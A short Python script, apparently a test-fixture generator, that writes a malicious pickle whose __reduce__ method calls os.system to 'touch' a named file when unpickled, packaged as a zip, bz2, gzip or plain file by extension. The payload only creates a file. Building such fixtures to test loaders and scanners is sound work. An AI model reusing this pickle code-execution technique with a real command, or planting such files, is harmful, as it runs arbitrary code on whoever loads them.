"""Writes a pickle that asks for os.system to the path given, packed as its name ends; read by pickle it would make the file
named second."""

import bz2
import gzip
import os
import pickle
import sys
import zipfile


class Hostile:
    def __reduce__(self):
        return os.system, (f"touch {sys.argv[2]}",)


path, content = sys.argv[1], pickle.dumps(Hostile())
if path.endswith(".pth"):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", content)
else:
    with (bz2.open if path.endswith(".pbz2") else gzip.open if path.endswith(".gz") else open)(path, "wb") as file:
        file.write(content)
